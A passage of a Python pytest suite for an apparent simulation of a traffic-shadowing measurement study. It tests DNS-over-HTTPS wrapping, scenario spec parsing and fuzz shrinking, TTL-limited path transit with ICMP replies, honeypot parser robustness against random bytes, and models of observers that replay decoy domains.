        # so recall is high but not perfect.
        assert report.recall > 0.6

    def test_no_unexplained_flags(self, result):
        report = validate(
            result.eco.ground_truth, result.phase1, result.phase2,
            result.ledger, result.config.observation_window,
        )
        assert report.false_domains == 0
        assert report.exhibitor_precision == 1.0

    def test_benign_only_domains_are_dns(self, result):
        report = validate(
            result.eco.ground_truth, result.phase1, result.phase2,
            result.ledger, result.config.observation_window,
        )
        # Retry-only resolvers do produce flagged domains with no
        # exhibitor behind them — genuine unsolicited traffic, benign cause.
        assert report.benign_only_domains > 0

"""Tests for the DNS-over-HTTPS mitigation wrapper."""

import pytest

from repro.mitigations import (
    DohError,
    build_doh_request,
    build_doh_response,
    open_doh_request,
    open_doh_response,
)
from repro.mitigations.doh import wire_visible_name
from repro.protocols.dns import QTYPE, ResourceRecord, make_query, make_response
from repro.protocols.http import HttpRequest, HttpResponse

QUERY_NAME = "abcd1234-0001.www.experiment.domain"


class TestDohRequest:
    def test_roundtrip(self):
        query = make_query(QUERY_NAME, txid=7)
        request = build_doh_request(query, "doh.resolver.example")
        unwrapped = open_doh_request(HttpRequest.decode(request.encode()))
        assert unwrapped.qname == QUERY_NAME
        assert unwrapped.header.txid == 7

    def test_host_header_names_resolver_not_query(self):
        request = build_doh_request(make_query(QUERY_NAME, txid=1),
                                    "doh.resolver.example")
        assert request.host == "doh.resolver.example"
        assert QUERY_NAME not in (request.host or "")
        assert request.path == "/dns-query"

    def test_query_name_absent_from_clear_text_headers(self):
        """The whole point: no header or request line leaks the QNAME."""
        request = build_doh_request(make_query(QUERY_NAME, txid=1),
                                    "doh.resolver.example")
        head = request.encode().split(b"\r\n\r\n")[0]
        assert QUERY_NAME.encode() not in head

    def test_wire_visible_name_is_sni_only(self):
        request = build_doh_request(make_query(QUERY_NAME, txid=1),
                                    "doh.resolver.example")
        assert wire_visible_name(request, tls_sni="doh.resolver.example") == \
            "doh.resolver.example"
        assert wire_visible_name(request) is None

    def test_open_rejects_wrong_method_or_path(self):
        query = make_query(QUERY_NAME, txid=1)
        request = build_doh_request(query, "doh.resolver.example")
        wrong_path = HttpRequest(method="POST", path="/other",
                                 headers=request.headers, body=request.body)
        with pytest.raises(DohError):
            open_doh_request(wrong_path)
        wrong_method = HttpRequest(method="GET", path="/dns-query",
                                   headers=request.headers, body=request.body)
        with pytest.raises(DohError):
            open_doh_request(wrong_method)

    def test_open_rejects_wrong_content_type(self):
        query = make_query(QUERY_NAME, txid=1)
        request = HttpRequest(method="POST", path="/dns-query",
                              headers=(("Content-Type", "text/plain"),),
                              body=query.encode())
        with pytest.raises(DohError):
            open_doh_request(request)

    def test_open_rejects_empty_body(self):
        request = HttpRequest(
            method="POST", path="/dns-query",
            headers=(("Content-Type", "application/dns-message"),),
        )
        with pytest.raises(DohError):
            open_doh_request(request)


class TestDohResponse:
    def test_roundtrip(self):
        query = make_query(QUERY_NAME, txid=9)
        answer = make_response(query, answers=(
            ResourceRecord(name=QUERY_NAME, rtype=QTYPE.A, ttl=3600,
                           rdata="203.0.113.11"),
        ))
        response = build_doh_response(answer)
        unwrapped = open_doh_response(HttpResponse.decode(response.encode()))
        assert unwrapped.answers[0].rdata == "203.0.113.11"
        assert unwrapped.header.txid == 9

    def test_open_rejects_error_status(self):
        response = HttpResponse(status=500, reason="oops")
        with pytest.raises(DohError):
            open_doh_response(response)


class TestSyntheticAsNames:
    def test_known_pools_have_friendly_names(self):
        from repro.datasets.asns import lookup_as, synthetic_asn
        assert "SecProbe" in lookup_as(synthetic_asn(50_001)).name
        assert lookup_as(synthetic_asn(50_003)).country == "CN"

    def test_register_custom_name(self):
        from repro.datasets.asns import (
            SYNTHETIC_NAMES,
            lookup_as,
            register_synthetic_name,
            synthetic_asn,
        )
        register_synthetic_name(77_777, "Test Hoster", "SE", "cloud")
        try:
            record = lookup_as(synthetic_asn(77_777))
            assert record.name == "Test Hoster"
            assert record.country == "SE"
        finally:
            del SYNTHETIC_NAMES[77_777]

    def test_unnamed_synthetic_keeps_index_name(self):
        from repro.datasets.asns import lookup_as, synthetic_asn
        assert lookup_as(synthetic_asn(123)).name == "SYNTH-123"

"""Scenario layer contract tests.

Pins the three guarantees the scenario subsystem makes:

* **Spec round-trip** — ``parse(serialize(spec)) == spec`` for every
  library scenario and for a seeded population of generated specs, and
  every malformed document fails with a structured
  :class:`ScenarioError` naming the offending field — never a bare
  ``KeyError``/``TypeError``.
* **Compiler closure** — the mapping table covers every
  ``ExperimentConfig`` field with provenance, ``paper-faithful`` lowers
  to exactly the default config, and invalid compiled configs surface
  as :class:`ScenarioError`.
* **Fuzzer determinism and shrinking** — the generated population is a
  pure function of the fuzz seed, and a failing spec shrinks to its
  minimal failing field set by field reset.
"""

import dataclasses
import json

import pytest

from repro.core.config import ConfigError, ExperimentConfig
from repro.scenario import (
    Scenario,
    ScenarioError,
    UnknownScenarioError,
    compile_scenario,
    compile_with_trace,
    generate_scenario,
    load_library,
    load_named,
    loads_scenario,
    parse_scenario,
    resolve_scenario,
    scenario_names,
    serialize_scenario,
    shrink,
)
from repro.scenario.spec import flat_fields, get_field, with_field
from repro.simkit.units import DAY

LIBRARY_NAMES = ("cn-interception-heavy", "doh-fingerprinted",
                 "ech-everywhere", "ech-everywhere-watched", "hostile-churn",
                 "minimal-smoke", "paper-faithful", "resolver-centralized")


class TestRoundTrip:
    @pytest.mark.parametrize("name", LIBRARY_NAMES)
    def test_library_scenarios_round_trip(self, name):
        spec = load_named(name)
        assert loads_scenario(serialize_scenario(spec)) == spec
        assert parse_scenario(spec.to_dict()) == spec
        assert loads_scenario(serialize_scenario(spec)).digest() == \
            spec.digest()

    @pytest.mark.parametrize("seed", (0, 7, 20240301))
    def test_generated_population_round_trips(self, seed):
        """Property: every generated spec survives dict and JSON forms."""
        for index in range(25):
            spec = generate_scenario(seed, index)
            assert parse_scenario(spec.to_dict()) == spec
            assert loads_scenario(serialize_scenario(spec)) == spec

    def test_serialization_is_canonical(self):
        spec = load_named("minimal-smoke")
        assert serialize_scenario(spec) == serialize_scenario(
            parse_scenario(spec.to_dict()))
        assert serialize_scenario(spec).endswith("\n")

    def test_omitted_sections_mean_defaults(self):
        spec = parse_scenario({"name": "bare"})
        assert spec == Scenario(name="bare")

    def test_digest_moves_with_any_field(self):
        base = Scenario(name="x")
        for path in flat_fields():
            value = get_field(base, path)
            if isinstance(value, bool):
                moved = with_field(base, path, not value)
            elif value is None:
                moved = with_field(base, path, 17)
            elif isinstance(value, str):
                moved = with_field(base, path, value + ".moved")
            else:
                moved = with_field(base, path, value + 1)
            assert moved.digest() != base.digest(), path


class TestStructuredErrors:
    def test_unknown_top_level_field(self):
        with pytest.raises(ScenarioError, match="bogus: unknown field"):
            parse_scenario({"name": "x", "bogus": 1})

    def test_unknown_section_field(self):
        with pytest.raises(ScenarioError,
                           match=r"observers\.sniffers: unknown field"):
            parse_scenario({"name": "x", "observers": {"sniffers": 3}})

    def test_missing_name(self):
        with pytest.raises(ScenarioError, match="name: required field"):
            parse_scenario({})

    def test_wrong_types_are_named_not_raised_raw(self):
        document = {
            "name": "x",
            "seed": "not-a-seed",
            "fleet": {"vp_scale": "huge"},
            "topology": {"web_site_count": 1.5},
            "engine": {"workers": True},
        }
        with pytest.raises(ScenarioError) as excinfo:
            parse_scenario(document)
        problems = "\n".join(excinfo.value.problems)
        assert "seed: expected integer" in problems
        assert "fleet.vp_scale: expected number" in problems
        assert "topology.web_site_count: expected integer" in problems
        assert "engine.workers: expected integer" in problems

    def test_all_problems_reported_at_once(self):
        with pytest.raises(ScenarioError) as excinfo:
            parse_scenario({"name": "", "bogus": 1,
                            "retention": {"onpath_capacity": "many"}})
        assert len(excinfo.value.problems) == 3

    def test_unsupported_format_version(self):
        with pytest.raises(ScenarioError, match="unsupported scenario format"):
            parse_scenario({"name": "x", "format": 99})

    def test_non_object_inputs(self):
        with pytest.raises(ScenarioError, match="top level"):
            parse_scenario([1, 2, 3])
        with pytest.raises(ScenarioError, match="expected an object"):
            parse_scenario({"name": "x", "fleet": 7})

    def test_malformed_json_text(self):
        with pytest.raises(ScenarioError, match="not valid JSON"):
            loads_scenario("{nope")

    def test_fuzzed_corruption_never_leaks_raw_errors(self):
        """Mangling any single field of a valid document either parses
        or raises ScenarioError — never KeyError/TypeError."""
        base = load_named("hostile-churn").to_dict()
        for key in list(base):
            for poison in (object(), [1], {"deep": 1}, "x", 1.5, None):
                mangled = dict(base)
                mangled[key] = poison
                try:
                    parse_scenario(mangled)
                except ScenarioError:
                    pass


class TestCompiler:
    def test_mapping_covers_every_config_field(self):
        _, trace = compile_with_trace(Scenario(name="x"))
        assert set(trace) == {f.name for f in
                              dataclasses.fields(ExperimentConfig)}
        assert trace["vp_scale"] == "fleet.vp_scale"
        assert trace["capture_pcap"].startswith("default:")

    def test_paper_faithful_compiles_to_default_config(self):
        assert compile_scenario(load_named("paper-faithful")) == \
            ExperimentConfig()

    def test_day_fields_lower_exactly(self):
        spec = with_field(Scenario(name="x"),
                          "timing.observation_window_days", 16.0)
        assert compile_scenario(spec).observation_window == 16.0 * DAY

    def test_fair_weather_compiles_no_fault_plan(self):
        assert compile_scenario(Scenario(name="x")).faults is None
        stormy = with_field(Scenario(name="x"), "faults.link_loss_rate", 0.02)
        assert compile_scenario(stormy).faults is not None

    def test_compile_is_deterministic(self):
        spec = load_named("cn-interception-heavy")
        assert compile_scenario(spec) == compile_scenario(spec)

    def test_invalid_compiled_config_is_scenario_error(self):
        spec = with_field(Scenario(name="x"), "fleet.vp_scale", -0.5)
        with pytest.raises(ScenarioError, match="compiled config rejected"):
            compile_scenario(spec)

    def test_retention_with_workers_is_rejected_at_compile(self):
        spec = with_field(Scenario(name="x"), "retention.onpath_capacity", 8)
        spec = with_field(spec, "engine.workers", 2)
        with pytest.raises(ScenarioError, match="require workers == 1"):
            compile_scenario(spec)


class TestConfigValidation:
    def test_collects_every_problem(self):
        with pytest.raises(ConfigError) as excinfo:
            ExperimentConfig(vp_scale=0.0, send_spacing=-1.0,
                             phase2_max_ttl=0)
        problems = excinfo.value.problems
        assert len(problems) == 3
        assert any(p.startswith("vp_scale:") for p in problems)

    def test_default_config_is_valid(self):
        ExperimentConfig().validate()

    def test_mutated_config_revalidates(self):
        config = ExperimentConfig()
        config.workers = 0
        with pytest.raises(ConfigError, match="workers:"):
            config.validate()


class TestLibrary:
    def test_expected_names_present(self):
        assert set(LIBRARY_NAMES) <= set(scenario_names())

    def test_every_library_scenario_compiles(self):
        for name, spec in load_library().items():
            config, trace = compile_with_trace(spec)
            assert config.seed == spec.seed, name
            assert set(trace) == {f.name for f in
                                  dataclasses.fields(ExperimentConfig)}

    def test_encrypted_transport_pack_lowers_ciphertext_knobs(self):
        """The two ciphertext-observer scenarios drive the new config
        surface: full mitigation adoption plus metadata observers."""
        watched = compile_scenario(load_named("ech-everywhere-watched"))
        assert watched.ech_adoption == 1.0
        assert watched.ciphertext_observer_share == 0.5
        assert watched.ciphertext_fpr == 0.01
        fingerprinted = compile_scenario(load_named("doh-fingerprinted"))
        assert fingerprinted.doh_adoption == 1.0
        assert fingerprinted.ciphertext_observer_share == 0.5
        assert fingerprinted.nod_noise_rate == 0.1

    def test_unknown_name_lists_library(self):
        with pytest.raises(UnknownScenarioError, match="paper-faithful"):
            load_named("ghost")

    def test_stem_must_match_declared_name(self, tmp_path):
        path = tmp_path / "alias.json"
        path.write_text(serialize_scenario(Scenario(name="other")))
        with pytest.raises(ScenarioError, match="declares name"):
            import repro.scenario.library as library
            original = library.SCENARIO_DATA_DIR
            library.SCENARIO_DATA_DIR = tmp_path
            try:
                load_named("alias")
            finally:
                library.SCENARIO_DATA_DIR = original

    def test_resolve_dispatches_name_or_path(self, tmp_path):
        assert resolve_scenario("minimal-smoke").name == "minimal-smoke"
        path = tmp_path / "custom.json"
        path.write_text(serialize_scenario(Scenario(name="custom-world")))
        assert resolve_scenario(path).name == "custom-world"
        assert resolve_scenario(str(path)).name == "custom-world"


class TestFuzzer:
    def test_generation_is_pure_in_seed_and_index(self):
        for index in range(10):
            assert generate_scenario(7, index) == generate_scenario(7, index)
        assert generate_scenario(7, 0) != generate_scenario(8, 0)
        assert generate_scenario(7, 0) != generate_scenario(7, 1)

    def test_generated_specs_compile_and_respect_retention_rule(self):
        saw_retention = False
        for index in range(40):
            spec = generate_scenario(11, index)
            config = compile_scenario(spec)
            if any(capacity is not None for capacity in
                   (config.onpath_retention_capacity,
                    config.resolver_retention_capacity,
                    config.destination_retention_capacity)):
                saw_retention = True
                assert config.workers == 1
        assert saw_retention, "population never exercised bounded retention"

    def test_shrink_finds_minimal_failing_field_set(self):
        """A spec broken in exactly one field, buried under unrelated
        non-default noise, shrinks back to just that field."""
        spec = Scenario(name="broken")
        spec = with_field(spec, "fleet.vp_scale", -0.5)       # the bug
        spec = with_field(spec, "seed", 999)                  # noise
        spec = with_field(spec, "topology.web_site_count", 77)
        spec = with_field(spec, "observers.ech_adoption", 0.5)
        spec = with_field(spec, "faults.link_loss_rate", 0.01)

        def fails(candidate):
            try:
                compile_scenario(candidate)
            except ScenarioError:
                return True
            return False

        shrunk, minimal = shrink(spec, fails)
        assert minimal == ["fleet.vp_scale"]
        assert get_field(shrunk, "fleet.vp_scale") == -0.5
        assert get_field(shrunk, "seed") == Scenario(name="x").seed

    def test_shrink_keeps_conjoined_failing_fields(self):
        """A failure needing two fields (retention + workers) keeps
        exactly those two after shrinking."""
        spec = Scenario(name="broken")
        spec = with_field(spec, "retention.onpath_capacity", 8)
        spec = with_field(spec, "engine.workers", 2)
        spec = with_field(spec, "timing.phase2_max_ttl", 48)  # noise

        def fails(candidate):
            try:
                compile_scenario(candidate)
            except ScenarioError:
                return True
            return False

        _, minimal = shrink(spec, fails)
        assert minimal == ["retention.onpath_capacity", "engine.workers"]

    def test_shrink_rejects_passing_specs(self):
        with pytest.raises(ValueError, match="currently fails"):
            shrink(Scenario(name="fine"), lambda candidate: False)

    def test_fuzz_report_payload_shape(self):
        from repro.scenario.fuzz import FuzzReport, FuzzSample
        report = FuzzReport(seed=7, workers=2, samples=[FuzzSample(
            index=0, spec_digest="a" * 64, serial_digest="b" * 64,
            checks={"compile-validate": "ok"}, ok=True,
            scenario=Scenario(name="s"))])
        payload = json.loads(report.to_json())
        assert payload["ok"] is True
        assert payload["run_digest"] == report.run_digest()
        assert payload["samples"][0]["spec_digest"] == "a" * 64
        assert "scenario" not in payload["samples"][0]

"""Tests for ICMP Time-Exceeded and the path transit engine."""

import pytest

from repro.net import (
    Hop,
    IcmpTimeExceeded,
    Packet,
    PacketDecodeError,
    Path,
    TransitError,
    TransitOutcome,
)


def make_path(n_hops: int = 5, silent: set = frozenset()) -> Path:
    """Path of n_hops: routers at 10.0.0.x, destination 8.8.8.8."""
    hops = [
        Hop(address=f"10.0.0.{index}", asn=100 + index, country="US",
            responds_icmp=index not in silent)
        for index in range(1, n_hops)
    ]
    hops.append(Hop(address="8.8.8.8", asn=15169, country="US", is_destination=True))
    return Path(hops)


def decoy_packet(ttl: int) -> Packet:
    return Packet.udp(src="192.0.2.1", dst="8.8.8.8", ttl=ttl,
                      src_port=40000, dst_port=53, payload=b"decoy-payload")


class TestIcmp:
    def test_roundtrip(self):
        expired = decoy_packet(ttl=3)
        icmp = IcmpTimeExceeded.for_packet("10.0.0.3", expired)
        decoded = IcmpTimeExceeded.decode("10.0.0.3", icmp.encode())
        assert decoded.reporter == "10.0.0.3"
        assert decoded.quoted_header.src == "192.0.2.1"
        assert decoded.quoted_header.dst == "8.8.8.8"

    def test_quotes_first_payload_bytes(self):
        expired = decoy_packet(ttl=3)
        icmp = IcmpTimeExceeded.for_packet("10.0.0.3", expired)
        assert icmp.quoted_payload == expired.transport.encode()[:8]

    def test_decode_rejects_wrong_type(self):
        raw = bytearray(IcmpTimeExceeded.for_packet("10.0.0.3", decoy_packet(3)).encode())
        raw[0] = 3  # destination unreachable
        with pytest.raises(PacketDecodeError):
            IcmpTimeExceeded.decode("10.0.0.3", bytes(raw))

    def test_decode_rejects_short_message(self):
        with pytest.raises(PacketDecodeError):
            IcmpTimeExceeded.decode("10.0.0.3", b"\x0b\x00\x00\x00")


class TestPathConstruction:
    def test_requires_destination_last(self):
        with pytest.raises(TransitError):
            Path([Hop(address="10.0.0.1", asn=1, country="US")])

    def test_rejects_destination_mid_path(self):
        hops = [
            Hop(address="10.0.0.1", asn=1, country="US", is_destination=True),
            Hop(address="8.8.8.8", asn=2, country="US", is_destination=True),
        ]
        with pytest.raises(TransitError):
            Path(hops)

    def test_rejects_empty(self):
        with pytest.raises(TransitError):
            Path([])

    def test_hop_at_and_position_of(self):
        path = make_path(4)
        assert path.hop_at(1).address == "10.0.0.1"
        assert path.hop_at(4).address == "8.8.8.8"
        assert path.position_of("10.0.0.2") == 2
        assert path.position_of("1.2.3.4") is None
        with pytest.raises(TransitError):
            path.hop_at(0)
        with pytest.raises(TransitError):
            path.hop_at(5)


class TestTransit:
    def test_sufficient_ttl_delivers(self):
        path = make_path(5)
        result = path.transit(decoy_packet(ttl=64))
        assert result.outcome is TransitOutcome.DELIVERED
        assert result.final_position == 5
        assert result.icmp is None

    def test_exact_ttl_delivers(self):
        path = make_path(5)
        result = path.transit(decoy_packet(ttl=5))
        assert result.delivered

    def test_short_ttl_expires_at_that_hop(self):
        path = make_path(5)
        result = path.transit(decoy_packet(ttl=3))
        assert result.outcome is TransitOutcome.EXPIRED
        assert result.final_position == 3
        assert result.icmp is not None
        assert result.icmp.reporter == "10.0.0.3"

    def test_icmp_quotes_sender_addresses(self):
        path = make_path(5)
        result = path.transit(decoy_packet(ttl=2))
        assert result.icmp.quoted_header.src == "192.0.2.1"

    def test_silent_hop_returns_no_icmp(self):
        path = make_path(5, silent={2})
        result = path.transit(decoy_packet(ttl=2))
        assert result.outcome is TransitOutcome.EXPIRED
        assert result.icmp is None

    def test_zero_ttl_cannot_leave_vp(self):
        path = make_path(3)
        with pytest.raises(TransitError):
            path.transit(decoy_packet(ttl=1).with_ttl(0))

    def test_observed_by_lists_hops_up_to_expiry(self):
        path = make_path(5)
        result = path.transit(decoy_packet(ttl=3))
        assert [position for position, _ in result.observed_by] == [1, 2, 3]

    def test_observed_by_includes_destination_on_delivery(self):
        path = make_path(4)
        result = path.transit(decoy_packet(ttl=64))
        assert [position for position, _ in result.observed_by] == [1, 2, 3, 4]


class TestTaps:
    def test_tap_sees_packets_reaching_its_hop(self):
        path = make_path(5)
        captured = []
        path.add_tap(3, lambda position, hop, packet: captured.append(packet.ip.ttl))
        path.transit(decoy_packet(ttl=64))
        path.transit(decoy_packet(ttl=3))
        assert len(captured) == 2

    def test_tap_misses_packets_expiring_earlier(self):
        path = make_path(5)
        captured = []
        path.add_tap(4, lambda position, hop, packet: captured.append(1))
        path.transit(decoy_packet(ttl=3))
        assert captured == []

    def test_minimal_triggering_ttl_equals_tap_position(self):
        """The core Phase II property: an observer at hop t is first reached
        at initial TTL exactly t."""
        path = make_path(8)
        captured = []
        path.add_tap(5, lambda position, hop, packet: captured.append(1))
        for ttl in range(1, 9):
            captured.clear()
            path.transit(decoy_packet(ttl=ttl))
            assert bool(captured) == (ttl >= 5)

    def test_tap_position_validated(self):
        path = make_path(3)
        with pytest.raises(TransitError):
            path.add_tap(9, lambda position, hop, packet: None)

"""Smoke tests: every example must run to completion.

Examples are the library's public face; these tests keep them from
rotting as the API evolves.  Each runs in a subprocess exactly as a user
would invoke it.
"""

import pathlib
import subprocess
import sys

import pytest

EXAMPLES = pathlib.Path(__file__).parent.parent / "examples"


def run_example(name: str, args=(), timeout: int = 300) -> str:
    completed = subprocess.run(
        [sys.executable, str(EXAMPLES / name), *args],
        capture_output=True, text=True, timeout=timeout,
    )
    assert completed.returncode == 0, completed.stderr[-2000:]
    return completed.stdout


def test_examples_directory_has_at_least_three_examples():
    scripts = sorted(path.name for path in EXAMPLES.glob("*.py"))
    assert len(scripts) >= 3
    assert "quickstart.py" in scripts


@pytest.mark.parametrize("name,markers", [
    ("quickstart.py", ["Table 1", "Figure 3", "Figure 4", "Table 2", "Table 3"]),
    ("custom_exhibitor.py", ["Unsolicited requests", "AS394735"]),
    ("mitigations_demo.py", ["Scene 1", "Scene 2", "Scene 3",
                             "correlation possible: False"]),
])
def test_fast_examples(name, markers):
    output = run_example(name)
    for marker in markers:
        assert marker in output, f"{name} output missing {marker!r}"


def test_offline_analysis_example(tmp_path):
    output = run_example("offline_analysis.py", args=(str(tmp_path / "bundle"),))
    assert "full paper report identical: True" in output
    assert "scale:" in output  # the heat map rendered


@pytest.mark.slow
def test_dns_resolver_audit_example():
    output = run_example("dns_resolver_audit.py")
    assert "Case study I" in output
    assert "Case study II" in output
    assert "Origin reputation" in output


@pytest.mark.slow
def test_locate_wire_observers_example():
    output = run_example("locate_wire_observers.py")
    assert "Normalized observer locations" in output
    assert "Top observer networks" in output
    assert "Port scan" in output

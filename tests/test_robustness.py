"""Failure-injection and fuzz tests: honeypots and parsers facing garbage.

Honeypots on the open Internet receive arbitrary bytes; the paper's
infrastructure must not let malformed traffic corrupt the log.  These
tests drive the parsers and services with garbage and assert controlled
failure: a typed exception or a clean rejection, never a wrong log entry.
"""

import pytest
from hypothesis import given, settings, strategies as st

from repro.honeypot.deployment import HoneypotDeployment
from repro.honeypot.logstore import LogStore
from repro.net.errors import PacketDecodeError
from repro.net.packet import Packet
from repro.protocols.dns import DnsMessage, make_query
from repro.protocols.dns.names import DnsNameError
from repro.protocols.http import HttpMessageError, HttpRequest
from repro.protocols.tls import TlsDecodeError
from repro.protocols.tls.clienthello import ClientHello
from repro.protocols.tls.record import TlsPlaintext, TlsRecordError

ZONE = "www.experiment.domain"


class TestParserFuzz:
    @given(st.binary(max_size=200))
    @settings(max_examples=200)
    def test_dns_decoder_never_crashes_uncontrolled(self, blob):
        try:
            DnsMessage.decode(blob)
        except (PacketDecodeError, DnsNameError, ValueError):
            pass

    @given(st.binary(max_size=200))
    @settings(max_examples=200)
    def test_http_decoder_never_crashes_uncontrolled(self, blob):
        try:
            HttpRequest.decode(blob)
        except HttpMessageError:
            pass

    @given(st.binary(max_size=200))
    @settings(max_examples=200)
    def test_tls_decoder_never_crashes_uncontrolled(self, blob):
        try:
            record = TlsPlaintext.decode(blob)
            ClientHello.decode(record.fragment)
        except (TlsRecordError, TlsDecodeError, ValueError):
            pass

    @given(st.binary(max_size=200))
    @settings(max_examples=200)
    def test_packet_decoder_never_crashes_uncontrolled(self, blob):
        try:
            Packet.decode(blob)
        except (PacketDecodeError, ValueError):
            pass


class TestHoneypotUnderGarbage:
    def test_authdns_rejects_garbage_without_logging(self):
        deployment = HoneypotDeployment(zone=ZONE)
        server = deployment.sites["US"].authdns
        with pytest.raises((PacketDecodeError, ValueError)):
            server.handle_query(b"\x00\x01not-dns", "198.51.100.9", 1.0)
        assert len(deployment.log) == 0

    def test_web_rejects_garbage_without_logging(self):
        deployment = HoneypotDeployment(zone=ZONE)
        server = deployment.sites["US"].web
        with pytest.raises(HttpMessageError):
            server.handle_request(b"\x16\x03\x01 not-http", "198.51.100.9", 1.0)
        assert len(deployment.log) == 0

    def test_tls_rejects_garbage_without_logging(self):
        deployment = HoneypotDeployment(zone=ZONE)
        server = deployment.sites["US"].tls
        with pytest.raises((TlsRecordError, TlsDecodeError)):
            server.handle_connection(b"GET / HTTP/1.1\r\n\r\n", None,
                                     "198.51.100.9", 1.0)
        assert len(deployment.log) == 0

    @given(st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-.",
                   min_size=1, max_size=40))
    @settings(max_examples=100)
    def test_out_of_zone_names_never_pollute_the_log(self, label):
        deployment = HoneypotDeployment(zone=ZONE)
        server = deployment.sites["US"].authdns
        try:
            query = make_query(f"{label}.somewhere.else", txid=1)
            wire = query.encode()
        except Exception:
            return  # not a well-formed name; nothing to send
        server.handle_query(wire, "198.51.100.9", 1.0)
        assert len(deployment.log) == 0

    def test_log_time_regression_is_fatal_not_silent(self):
        from repro.honeypot.logstore import LoggedRequest
        log = LogStore()
        log.append(LoggedRequest(time=10.0, site="US", protocol="dns",
                                 src_address="1.2.3.4", domain="a"))
        with pytest.raises(ValueError):
            log.append(LoggedRequest(time=9.0, site="US", protocol="dns",
                                     src_address="1.2.3.4", domain="b"))


class TestCorrelatorUnderNoise:
    def test_foreign_but_in_zone_domains_counted_as_noise(self):
        """A third party inventing names under the experiment zone must
        not produce shadowing events."""
        from repro.core.correlate import Correlator, DecoyLedger
        from repro.honeypot.logstore import LoggedRequest
        ledger = DecoyLedger()
        log = LogStore()
        log.append(LoggedRequest(time=1.0, site="US", protocol="http",
                                 src_address="198.51.100.7",
                                 domain=f"made-up-label-0001.{ZONE}"))
        result = Correlator(ledger, ZONE).correlate(log)
        assert result.events == []
        assert result.unknown_domains == [f"made-up-label-0001.{ZONE}"]

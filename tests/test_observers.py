"""Tests for shadow policies, exhibitors, sniffers, resolver models."""

import random

import pytest

from repro.datasets.resolvers import DESTINATIONS_BY_NAME
from repro.honeypot.deployment import HoneypotDeployment
from repro.intel.blocklist import Blocklist
from repro.intel.directory import IpDirectory
from repro.net.packet import Packet
from repro.net.path import Hop
from repro.observers import (
    AddressAllocator,
    DnsInterceptor,
    GroundTruth,
    ObserverDeployment,
    OriginGroup,
    OriginPool,
    ResolverModel,
    ResolverProfile,
    ShadowExhibitor,
    ShadowPolicy,
    SnifferSpec,
    UnsolicitedEmitter,
    WireSniffer,
)
from repro.observers.onpath import extract_domain
from repro.observers.webdest import WebDestinationBehavior, WebDestinationModel
from repro.datasets.tranco import WebDestination
from repro.protocols.dns import make_query
from repro.protocols.http import make_get
from repro.protocols.tls import ClientHello, wrap_handshake
from repro.simkit.distributions import Constant
from repro.simkit.events import Simulator

ZONE = "www.experiment.domain"
DOMAIN = f"abcd1234-0001.{ZONE}"


def make_pool(name="test", blocklist=None, directory=None):
    return OriginPool(
        name=name,
        groups=[OriginGroup(asn=4134, country="CN", weight=1.0, blocklist_rate=0.0)],
        allocator=AddressAllocator(),
        directory=directory if directory is not None else IpDirectory(),
        blocklist=blocklist if blocklist is not None else Blocklist(),
        rng=random.Random(1),
    )


def make_policy(**overrides):
    defaults = dict(
        name="test-policy",
        delay=Constant(100.0),
        uses=Constant(2),
        protocol_weights={"dns": 1.0},
        origin_pool=make_pool(),
        observe_probability=1.0,
    )
    defaults.update(overrides)
    return ShadowPolicy(**defaults)


def make_exhibitor(policy=None, sim=None, deployment=None, ground_truth=None):
    sim = sim if sim is not None else Simulator()
    deployment = deployment if deployment is not None else HoneypotDeployment(zone=ZONE)
    emitter = UnsolicitedEmitter(deployment, sim, random.Random(2))
    exhibitor = ShadowExhibitor(
        policy=policy if policy is not None else make_policy(),
        sim=sim,
        emitter=emitter,
        rng=random.Random(3),
        ground_truth=ground_truth,
    )
    return exhibitor, sim, deployment


class TestOriginPool:
    def test_pick_returns_registered_address(self):
        directory = IpDirectory()
        pool = make_pool(directory=directory)
        address = pool.pick(random.Random(5), "dns")
        assert directory.asn_of(address) == 4134

    def test_blocklist_rate_one_lists_everything(self):
        blocklist = Blocklist()
        pool = OriginPool(
            name="all-bad",
            groups=[OriginGroup(1, "US", 1.0, blocklist_rate=1.0, address_count=5)],
            allocator=AddressAllocator(),
            directory=IpDirectory(),
            blocklist=blocklist,
            rng=random.Random(1),
        )
        assert all(address in blocklist for address in pool.all_addresses())

    def test_protocol_restriction_honoured(self):
        pool = OriginPool(
            name="split",
            groups=[
                OriginGroup(100, "US", 0.5, 0.0, protocols=("dns",)),
                OriginGroup(200, "DE", 0.5, 0.0, protocols=("https",)),
            ],
            allocator=AddressAllocator(),
            directory=(directory := IpDirectory()),
            blocklist=Blocklist(),
            rng=random.Random(1),
        )
        rng = random.Random(9)
        for _ in range(20):
            assert directory.asn_of(pool.pick(rng, "dns")) == 100
            assert directory.asn_of(pool.pick(rng, "https")) == 200

    def test_empty_groups_rejected(self):
        with pytest.raises(ValueError):
            OriginPool("x", [], AddressAllocator(), IpDirectory(),
                       Blocklist(), random.Random(1))

    def test_allocator_is_stable(self):
        allocator = AddressAllocator()
        assert allocator.allocate("k") == allocator.allocate("k")
        assert allocator.allocate("k") != allocator.allocate("other")


class TestShadowPolicy:
    def test_rejects_bad_probability(self):
        with pytest.raises(ValueError):
            make_policy(observe_probability=1.5)

    def test_rejects_unknown_protocol(self):
        with pytest.raises(ValueError):
            make_policy(protocol_weights={"ftp": 1.0})

    def test_rejects_empty_weights(self):
        with pytest.raises(ValueError):
            make_policy(protocol_weights={})

    def test_pick_protocol_respects_weights(self):
        policy = make_policy(protocol_weights={"dns": 0.0001, "http": 0.9999})
        rng = random.Random(4)
        picks = {policy.pick_protocol(rng) for _ in range(50)}
        assert "http" in picks


class TestShadowExhibitor:
    def test_observation_schedules_unsolicited_requests(self):
        exhibitor, sim, deployment = make_exhibitor()
        exhibitor.observe(DOMAIN, observed_from="10.0.0.1")
        assert sim.pending == 2  # uses = Constant(2)
        sim.run()
        assert len(deployment.log) == 2
        assert all(entry.domain == DOMAIN for entry in deployment.log)

    def test_delay_applied(self):
        exhibitor, sim, deployment = make_exhibitor()
        exhibitor.observe(DOMAIN, observed_from="10.0.0.1")
        sim.run()
        assert all(entry.time == 100.0 for entry in deployment.log)

    def test_zero_probability_never_leverages(self):
        exhibitor, sim, deployment = make_exhibitor(
            policy=make_policy(observe_probability=0.0)
        )
        for _ in range(10):
            exhibitor.observe(DOMAIN, observed_from="10.0.0.1")
        sim.run()
        assert len(deployment.log) == 0
        assert exhibitor.observed_count == 10
        assert exhibitor.leveraged_count == 0

    def test_http_unsolicited_reaches_honey_web(self):
        exhibitor, sim, deployment = make_exhibitor(
            policy=make_policy(protocol_weights={"http": 1.0})
        )
